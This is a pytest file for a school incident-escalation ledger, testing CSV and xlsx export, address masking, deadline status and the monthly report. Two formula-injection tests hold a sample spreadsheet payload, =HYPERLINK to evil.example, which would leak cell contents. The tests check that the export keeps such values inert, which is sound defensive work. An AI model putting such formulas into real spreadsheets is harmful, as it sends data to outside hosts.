"""The work ledger (escalator/ledger.py): export (CSV with BOM, xlsx) and the monthly report.
A real SQLite file built by driving the engine on the fake clock; the CLI as a subprocess."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from datetime import date, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from escalator.clock import FakeClock
from escalator.config import load_config
from escalator.config.models import Config
from escalator.school import ledger
from escalator.testing import Harness

from .conftest import FIXTURES, case

SH = ZoneInfo("Asia/Shanghai")


def at(text: str) -> datetime:
    """A school-local time ``2026-11-30 23:30``."""
    return datetime.fromisoformat(text).replace(tzinfo=SH)


def event(summary: str, category: str = "other", **extra: Any) -> dict[str, Any]:
    return {"kind": "incident", "category": category, "summary": summary, "source": "test",
            **extra}


async def open_and_ack(h: Harness, when: str, ev: dict[str, Any], ack_after: float | None) -> int:
    """Open an incident at school-local ``when``; acknowledge it ``ack_after`` seconds later."""
    h.clock.set(at(when))
    r = await h.send(ev)
    assert r.status == "created", r
    assert r.incident_id is not None
    if ack_after is not None:
        await h.advance(ack_after)
        h.engine.acknowledge(r.incident_id, actor="cli:head", via="cli")
        await h.settle()
    return r.incident_id


async def build(h: Harness) -> dict[str, int]:
    """November 2026 (school-local) with one incident on each side of the month."""
    ids = {}
    ids["before"] = await open_and_ack(h, "2026-10-31 23:30", event("十月最后一晚"), 60)
    # four "other/medium" incidents: first responses after 60, 120, 180 and 600 s
    for n, secs in enumerate((180, 60, 600, 120)):
        ids[f"other{n}"] = await open_and_ack(h, f"2026-11-0{n + 2} 10:00",
                                              event(f"其他事件 {n}"), secs)
    # a report chain (infectious disease): a level is confirmed after 90 s
    fever = case("events/fever_single.json")
    fever["occurred_at"] = "2026-11-30T07:48:00+08:00"
    ids["fever"] = await open_and_ack(h, "2026-11-30 07:48", fever, 90)
    ids["drill"] = await open_and_ack(h, "2026-11-15 09:00",
                                      event("消防演练", "fire", drill=True, severity="high"), 30)
    ids["last_night"] = await open_and_ack(h, "2026-11-30 23:30", event("月末深夜事件"), None)
    ids["next_day"] = await open_and_ack(h, "2026-12-01 00:30", event("十二月第一天"), 45)
    with h.store.transaction() as tx:
        tx.c.execute("UPDATE incidents SET state = 'resolved', resolved_at = ?, resolved_by = ?"
                     " WHERE id = ?", ("2026-11-30T00:00:00.000000Z", "cli:head", ids["other0"]))
    return ids


def set_deadlines(h: Harness, ids: dict[str, int]) -> None:
    """Reporting deadlines on three incidents: met, missed (told late), missed (never told,
    passed); no deadline on every other one."""
    with h.store.transaction() as tx:
        tx.c.execute("UPDATE incidents SET deadline_at = NULL, deadline_met_at = NULL")
        rows = [("2026-11-30T01:00:00.000000Z", "2026-11-30T00:30:00.000000Z", ids["fever"]),
                ("2026-11-02T03:00:00.000000Z", "2026-11-02T04:00:00.000000Z", ids["other0"]),
                ("2026-11-03T03:00:00.000000Z", None, ids["other1"])]
        tx.c.executemany("UPDATE incidents SET deadline_at = ?, deadline_met_at = ? WHERE id = ?",
                         rows)


@pytest.fixture
async def built(engine_config, tmp_path):
    h = Harness(engine_config, tmp_path / "escalator.sqlite3")
    ids = await build(h)
    yield h, ids
    h.close()


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def tables(h: Harness, config: Config, d1: str = "2026-11-01", d2: str = "2026-11-30"
           ) -> dict[str, ledger.Table]:
    return {t.key: t for t in ledger.ledger_tables(h.store, config, date.fromisoformat(d1),
                                                   date.fromisoformat(d2), h.clock.now())}


# ------------------------------------------------------------------ export


async def test_csv_has_a_bom_chinese_headings_and_one_row_per_incident_of_the_local_dates(
        built, engine_config):
    h, ids = built
    t = tables(h, engine_config)["incidents"]
    buf = io.StringIO()
    buf.write("\ufeff")  # what encoding="utf-8-sig" writes first
    ledger.write_csv(t, buf)
    rows = read_csv(buf.getvalue().encode("utf-8"))
    assert rows[0][:5] == ["编号", "类型", "类别", "级别", "摘要"]
    assert "创建时间（Asia/Shanghai）" in rows[0] and "时限是否达成" in rows[0]
    numbers = [int(r[0]) for r in rows[1:]]
    # 23:30 local on the last day is in; 00:30 the next day and 23:30 the day before are not
    assert ids["last_night"] in numbers
    assert ids["next_day"] not in numbers and ids["before"] not in numbers
    assert sorted(numbers) == sorted(v for k, v in ids.items() if k not in ("before", "next_day"))
    last = next(r for r in rows[1:] if int(r[0]) == ids["last_night"])
    assert last[rows[0].index("创建时间（Asia/Shanghai）")] == "2026-11-30 23:30:00"
    drill = next(r for r in rows[1:] if int(r[0]) == ids["drill"])
    assert drill[rows[0].index("演练")] == "是" and drill[rows[0].index("类别")] == "火警"


async def test_notifications_deliveries_and_acknowledgements_are_listed_by_their_own_time(
        built, engine_config):
    h, ids = built
    t = tables(h, engine_config)
    with h.store.transaction() as tx:
        in_month = [r[0] for r in tx.c.execute(
            "SELECT id FROM notifications WHERE created_at >= '2026-10-31T16:00:00' "
            "AND created_at < '2026-11-30T16:00:00' ORDER BY created_at, id")]
        deliveries = tx.c.execute(
            "SELECT COUNT(*) FROM deliveries WHERE at >= '2026-10-31T16:00:00' "
            "AND at < '2026-11-30T16:00:00'").fetchone()[0]
        excluded = [r[0] for r in tx.c.execute(
            "SELECT id FROM notifications WHERE incident_id IN (?, ?)",
            (ids["before"], ids["next_day"]))]
    assert [r[0] for r in t["notifications"].rows] == in_month
    assert not set(excluded) & set(in_month) and excluded
    assert len(t["deliveries"].rows) == deliveries > 0
    heads = t["notifications"].headers
    n = next(r for r in t["notifications"].rows if r[1] == ids["fever"])
    assert n[heads.index("步骤")] == 1 and n[heads.index("方式")] == "逐级上报"
    assert n[heads.index("接收人")] == "王老师"
    assert n[heads.index("地址（已遮盖）")] == "138****0001"  # masked; the phone is 13800000001
    assert n[heads.index("状态")] == "已送达"
    acks = t["acknowledgements"].rows
    fever = [a for a in acks if a[0] == ids["fever"]]
    # level 1 (60 s) was overdue at 90 s: the confirmation is the school doctor's level 2
    assert [a[2] for a in fever] == ["本级确认"] and fever[0][5] == 2
    assert fever[0][1] == datetime(2026, 11, 30, 7, 49, 30)
    assert {a[0] for a in acks} == {v for k, v in ids.items()
                                    if k not in ("before", "next_day", "last_night")}


async def test_no_pupil_data_and_no_full_address_in_the_export(built, engine_config):
    h, _ = built
    text = json.dumps([t.rows for t in tables(h, engine_config).values()], default=str,
                      ensure_ascii=False)
    assert "S-2023-0142" not in text  # the subject id of fever_single.json
    assert "13800000001" not in text


async def test_xlsx_has_a_sheet_per_table_with_the_same_rows(built, engine_config, tmp_path):
    from openpyxl import load_workbook

    h, _ = built
    t = tables(h, engine_config)
    path = tmp_path / "ledger.xlsx"
    ledger.write_xlsx(t.values(), path)
    wb = load_workbook(path)
    assert wb.sheetnames == ["事件", "通知", "发送记录", "确认", "零报告"]
    for table in t.values():
        ws = wb[table.title]
        rows = [list(r) for r in ws.iter_rows(values_only=True)]
        assert rows[0] == table.headers
        assert [[ledger._cell(v) for v in r] for r in rows[1:]] == \
            [[ledger._cell(v) for v in r] for r in table.rows]
    ws = wb["事件"]
    assert ws.max_row == len(t["incidents"].rows) + 1 > 5
    assert isinstance(ws.cell(2, t["incidents"].headers.index("创建时间（Asia/Shanghai）") + 1).value,
                      datetime)


def test_xlsx_text_that_looks_like_a_formula_stays_text(tmp_path):
    """A summary from another tool (spool, API) written as ``=HYPERLINK(...)`` must not become
    a live formula in the ledger that an inspector opens in Excel."""
    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
    table = ledger.Table("incidents", "事件", ["编号", "摘要"], [[1, evil], [2, "+1"]])
    path = tmp_path / "ledger.xlsx"
    ledger.write_xlsx([table], path)
    ws = load_workbook(path)["事件"]
    assert [(c.value, c.data_type) for c in ws[2]] == [(1, "n"), (evil, "s")]
    assert ws.cell(3, 2).value == "+1"


def test_csv_text_that_looks_like_a_formula_stays_text():
    """The CSV download too: Excel runs a cell starting with = + - @ as a formula."""
    import io

    evil = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
    table = ledger.Table("incidents", "事件", ["编号", "摘要", "差"],
                         [[1, evil, -3], [2, "@SUM(A1)", "3-2班"]])
    out = io.StringIO()
    ledger.write_csv(table, out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1] == ["1", "'" + evil, "-3"] and rows[2] == ["2", "'@SUM(A1)", "3-2班"]


async def test_english_headings_with_language_en(built, engine_config):
    h, _ = built
    config = engine_config.model_copy(deep=True)
    config.school.language = "en"
    t = tables(h, config)
    assert t["incidents"].headers[:3] == ["No.", "kind", "category"]
    assert "opened (Asia/Shanghai)" in t["incidents"].headers
    assert t["incidents"].title == "Incidents"


@pytest.mark.parametrize("address, shown", [
    ("13800000001", "138****0001"), ("+86 138-0000-0002", "861****0002"),
    ("li@example.edu", "l***@example.edu"), ("all", "all"), ("-", "-"),
    ("https://user:pw@hooks.example/x?token=1", "https://hooks.example/…"),
    ("ou_abcdef123456", "ou***56"), ("(purged)", "(purged)")])
def test_addresses_are_masked(address, shown):
    assert ledger.mask_address(address) == shown


# ------------------------------------------------------------------ deadlines


@pytest.mark.parametrize("due, met, now, expected", [
    (None, None, "2026-11-30T12:00:00", None),
    ("2026-11-30T10:00:00", "2026-11-30T10:00:00", "2026-11-30T12:00:00", "met"),
    ("2026-11-30T10:00:00", "2026-11-30T10:00:01", "2026-11-30T12:00:00", "missed"),
    ("2026-11-30T10:00:00", None, "2026-11-30T10:00:01", "missed"),
    ("2026-11-30T10:00:00", None, "2026-11-30T10:00:00", "pending"),
])
def test_deadline_status(due, met, now, expected):
    def t(s):
        return None if s is None else datetime.fromisoformat(s + "+00:00")
    assert ledger.deadline_status(t(due), t(met), t(now)) == expected


@pytest.mark.parametrize("met, resolved, now, expected", [
    # resolved by the deadline, never told: neither met nor missed, before and after it
    (None, "2026-11-30T09:00:00", "2026-11-30T09:30:00", "resolved_unreported"),
    (None, "2026-11-30T09:00:00", "2026-12-31T00:00:00", "resolved_unreported"),
    (None, "2026-11-30T10:00:00", "2026-11-30T12:00:00", "resolved_unreported"),
    # resolved after the deadline passed untold: missed
    (None, "2026-11-30T10:00:01", "2026-11-30T12:00:00", "missed"),
    # told: met or missed by when, resolving changes nothing
    ("2026-11-30T08:00:00", "2026-11-30T09:00:00", "2026-11-30T12:00:00", "met"),
    ("2026-11-30T11:00:00", "2026-11-30T11:30:00", "2026-11-30T12:00:00", "missed"),
])
def test_deadline_status_of_a_resolved_incident(met, resolved, now, expected):
    def t(s):
        return None if s is None else datetime.fromisoformat(s + "+00:00")
    assert ledger.deadline_status(t("2026-11-30T10:00:00"), t(met), t(now),
                                  t(resolved)) == expected
    assert expected in ledger.DEADLINE_STATUSES


async def test_deadlines_in_the_ledger_and_the_report(built, engine_config):
    h, ids = built
    set_deadlines(h, ids)
    t = tables(h, engine_config)["incidents"]
    col = t.headers.index("时限是否达成")
    shown = {r[0]: r[col] for r in t.rows}
    assert shown[ids["fever"]] == "达成"
    assert shown[ids["other0"]] == "未达成" and shown[ids["other1"]] == "未达成"
    assert shown[ids["other2"]] == "—"
    report = ledger.monthly_report(h.store, engine_config, "2026-11", h.clock.now())
    assert report["total"]["deadlines_met"] == 1
    assert report["total"]["deadlines_missed"] == 2


async def test_incidents_without_a_deadline_show_none(built, engine_config):
    h, ids = built  # no deadlines set: engine.yaml has no deadline rules
    t = tables(h, engine_config)["incidents"]
    assert {r[t.headers.index("时限是否达成")] for r in t.rows} == {"—"}
    report = ledger.monthly_report(h.store, engine_config, "2026-11", h.clock.now())
    assert report["total"]["deadlines_missed"] == report["total"]["deadlines_met"] == 0


def emergency(summary: str) -> dict[str, Any]:
    """A public-health emergency (clusters.yaml: the default rule, 2 h; lead 1 h)."""
    return event(summary, "food_safety", severity="critical", affected_count=12)


def deadline_shown(h: Harness, config: Config) -> dict[int, str]:
    t = tables(h, config)["incidents"]
    return {r[0]: r[t.headers.index("时限是否达成")] for r in t.rows}


async def test_resolved_before_the_report_is_neither_met_nor_missed(tmp_path):
    """A false alarm resolved before the required level was told: 解除，未报告 in the ledger and
    its own figure in the report — before and after the deadline passes, never missed. Resolved
    only after the deadline passed untold, it is missed."""
    config = load_config(FIXTURES / "clusters.yaml")
    h = Harness(config, tmp_path / "db.sqlite3", clock=FakeClock(at("2026-11-30 10:00")))
    try:
        alarm = (await h.send(emergency("食堂疑似食物中毒（误报）"))).incident_id
        late = (await h.send(emergency("食堂午餐后多名学生呕吐"))).incident_id
        assert alarm is not None and late is not None
        assert h.incident(alarm).deadline_at == at("2026-11-30 12:00")
        await h.advance(10 * 60)  # 10:10: a false alarm, resolved before anyone is told
        h.engine.resolve(alarm, actor="cli:doc", via="cli")
        assert "resolved_before_report" in h.timeline(alarm)
        assert h.incident(alarm).deadline_met_at is None

        def figures() -> dict[str, Any]:
            return ledger.monthly_report(h.store, config, "2026-11", h.clock.now())["total"]

        assert deadline_shown(h, config)[alarm] == "解除，未报告"
        assert deadline_shown(h, config)[late] == "未到期"
        assert (figures()["deadlines_resolved_unreported"], figures()["deadlines_missed"],
                figures()["deadlines_pending"]) == (1, 0, 1)
        # the daemon is down through the deadline (no escalation); the other one is resolved
        # after it passed, never told
        h.clock.set(at("2026-11-30 12:30"))
        h.engine.resolve(late, actor="cli:doc", via="cli")
        assert "resolved_before_report" in h.timeline(late)
        await h.advance(7 * 24 * 3600)
        assert deadline_shown(h, config) == {alarm: "解除，未报告", late: "未达成"}
        assert (figures()["deadlines_resolved_unreported"], figures()["deadlines_missed"],
                figures()["deadlines_met"], figures()["deadlines_pending"]) == (1, 1, 0, 0)
        report = ledger.monthly_report(h.store, config, "2026-11", h.clock.now())
        [(headers, lines), *_] = ledger.report_tables(report, config)
        total = dict(zip(headers, lines[-1], strict=True))
        assert total["时限未达成"] == "1" and total["解除未报告"] == "1"
        config.school.language = "en"
        t = tables(h, config)["incidents"]
        assert {r[0]: r[t.headers.index("deadline")] for r in t.rows} == {
            alarm: "resolved, not reported", late: "missed"}
        [(headers, _), *_] = ledger.report_tables(report, config)
        assert "resolved, not reported" in headers
    finally:
        h.close()


# ------------------------------------------------------------------ the monthly report


async def test_report_medians_and_p90_are_exact(built, engine_config):
    h, _ = built
    report = ledger.monthly_report(h.store, engine_config, "2026-11", h.clock.now())
    rows = {(r["category"], r["severity"]): r for r in report["rows"]}
    other = rows[("other", "medium")]
    # 60, 120, 180, 600 s, and the incident at 23:30 on the 30th nobody answered
    assert other["incidents"] == 5 and other["responded"] == 4
    assert other["ack_median_seconds"] == 150.0
    assert other["ack_p90_seconds"] == 600.0
    fever = rows[("infectious_disease", "medium")]
    assert fever["incidents"] == 1 and fever["ack_median_seconds"] == 90.0
    drill = rows[("fire", "high")]
    assert drill["drills"] == 1 and drill["incidents"] == 0 and drill["responded"] == 0
    assert report["total"]["incidents"] == 6 and report["total"]["drills"] == 1
    assert report["total"]["ack_median_seconds"] == 120.0  # 60 90 120 180 600
    assert report["total"]["ack_p90_seconds"] == 600.0
    december = ledger.monthly_report(h.store, engine_config, "2026-12", h.clock.now())
    assert december["total"]["incidents"] == 1 and december["total"]["ack_median_seconds"] == 45.0


def test_percentile_is_nearest_rank():
    assert ledger.percentile([], 90) is None
    assert ledger.percentile([5.0], 90) == 5.0
    assert ledger.percentile([float(x) for x in range(1, 11)], 90) == 9.0
    assert ledger.percentile([float(x) for x in range(1, 12)], 90) == 10.0
    assert ledger.median([1.0, 2.0, 10.0, 11.0]) == 6.0


def heartbeat_config() -> Config:
    text = (FIXTURES / "engine.yaml").read_text(encoding="utf-8") + (
        "heartbeats:\n  zero_report:\n    name: 零报告\n    expect_by: \"09:30\"\n"
        "    school_days_only: false\n    policy: escalate_chain\n"
        "    category: infectious_disease\n")
    return load_config_text(text)


def load_config_text(text: str) -> Config:
    import tempfile

    with tempfile.TemporaryDirectory() as d:
        p = Path(d) / "c.yaml"
        p.write_text(text, encoding="utf-8")
        return load_config(p)


async def test_zero_reports_missed_in_the_report_and_the_ledger(tmp_path):
    config = heartbeat_config()
    h = Harness(config, tmp_path / "db.sqlite3", clock=FakeClock(at("2026-11-28 08:00")),
                heartbeats=True)
    try:
        beat = {"kind": "heartbeat", "category": "other", "summary": "零报告",
                "labels": {"monitor": "zero_report"}}
        await h.send(beat)  # 28th: on time
        h.clock.set(at("2026-11-29 10:00"))
        await h.settle()  # 29th: missed at 09:30 ...
        await h.send(beat)  # ... and reported late
        h.clock.set(at("2026-11-30 10:00"))
        await h.settle()  # 30th: missed
        report = ledger.monthly_report(h.store, config, "2026-11", h.clock.now())
        assert report["heartbeats"] == [{"monitor": "zero_report", "name": "零报告",
                                         "reported": 1, "missed": 2, "late": 1}]
        rows = {(r["category"], r["severity"]): r for r in report["rows"]}
        assert rows[("infectious_disease", "high")]["zero_reports_missed"] == 2
        t = tables(h, config)["heartbeats"]
        assert [r[1] for r in t.rows] == ["2026-11-28", "2026-11-29", "2026-11-30"]
        assert t.rows[0][0] == "零报告" and t.rows[0][3] is None and t.rows[2][3] is not None
        [(headers, lines), (mheads, mlines)] = ledger.report_tables(report, config)
        assert headers[:3] == ["类别", "级别", "事件数"] and mlines == [["零报告", "1", "2", "1"]]
    finally:
        h.close()


async def test_a_zero_report_after_the_deadline_is_late_even_when_no_check_ran(tmp_path):
    """The daemon was stopped over 09:30 (no missed incident opened), and the report came at
    09:50: the month counts it late, not on time."""
    config = heartbeat_config()
    h = Harness(config, tmp_path / "db.sqlite3", clock=FakeClock(at("2026-11-28 09:50")))
    try:  # heartbeats=False: the check never runs
        await h.send({"kind": "heartbeat", "category": "other", "summary": "零报告",
                      "labels": {"monitor": "zero_report"}})
        h.clock.set(at("2026-11-29 09:00"))
        await h.send({"kind": "heartbeat", "category": "other", "summary": "零报告",
                      "labels": {"monitor": "zero_report"}})
        report = ledger.monthly_report(h.store, config, "2026-11", h.clock.now())
        assert report["heartbeats"] == [{"monitor": "zero_report", "name": "零报告",
                                         "reported": 1, "missed": 1, "late": 1}]
    finally:
        h.close()


# ------------------------------------------------------------------ the CLI


EXE = [sys.executable, "-m", "escalator.cli"]


def run(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess:
    full = {k: v for k, v in os.environ.items() if not k.startswith("ESCALATOR_")}
    full.update(env)
    return subprocess.run([*EXE, *args], capture_output=True, env=full, timeout=60)


@pytest.fixture
async def state(engine_config, tmp_path):
    h = Harness(engine_config, tmp_path / "state" / "escalator.sqlite3")
    ids = await build(h)
    h.close()
    return {"ESCALATOR_STATE_DIR": str(tmp_path / "state"),
            "ESCALATOR_CONFIG": str(FIXTURES / "engine.yaml")}, ids


async def test_cli_ledger_export_csv_and_xlsx(state, tmp_path):
    from openpyxl import load_workbook

    env, ids = state
    out = tmp_path / "台账.csv"
    r = run("ledger", "export", "--from", "2026-11-01", "--to", "2026-11-30", "--format", "csv",
            "--output", str(out), env=env)
    assert r.returncode == 0, r.stderr.decode()
    rows = read_csv(out.read_bytes())
    assert rows[0][0] == "编号" and len(rows) == 1 + 7
    assert ids["last_night"] in [int(x[0]) for x in rows[1:]]
    r = run("ledger", "export", "--from", "2026-11-30", "--to", "2026-11-30", "--table",
            "notifications", env=env)  # to stdout
    assert r.returncode == 0, r.stderr.decode()
    rows = read_csv(r.stdout)
    assert rows[0][:2] == ["通知编号", "事件编号"] and len(rows) > 1
    xlsx = tmp_path / "台账.xlsx"
    r = run("ledger", "export", "--from", "2026-11-01", "--to", "2026-11-30", "--format", "xlsx",
            "--output", str(xlsx), env=env)
    assert r.returncode == 0, r.stderr.decode()
    assert load_workbook(xlsx)["事件"].max_row == 1 + 7
    bad = run("ledger", "export", "--from", "2026-11-30", "--to", "2026-11-01", env=env)
    assert bad.returncode == 2 and b"before --from" in bad.stderr
    bad = run("ledger", "export", "--from", "30/11/2026", "--to", "2026-11-01", env=env)
    assert bad.returncode == 2


async def test_cli_report_table_and_json(state):
    env, _ = state
    r = run("report", "--month", "2026-11", "--format", "json", env=env)
    assert r.returncode == 0, r.stderr.decode()
    report = json.loads(r.stdout)
    assert report["total"]["incidents"] == 6 and report["total"]["ack_p90_seconds"] == 600.0
    r = run("report", "--month", "2026-11", env=env)
    assert r.returncode == 0, r.stderr.decode()
    text = r.stdout.decode()
    assert "测试小学 2026-11 月报" in text and "响应用时中位数（分钟）" in text
    other = next(line for line in text.splitlines() if line.startswith("其他"))
    assert other.split()[:6] == ["其他", "一般", "5", "4", "2.5", "10.0"]
    assert run("report", "--month", "2026-13", env=env).returncode == 2
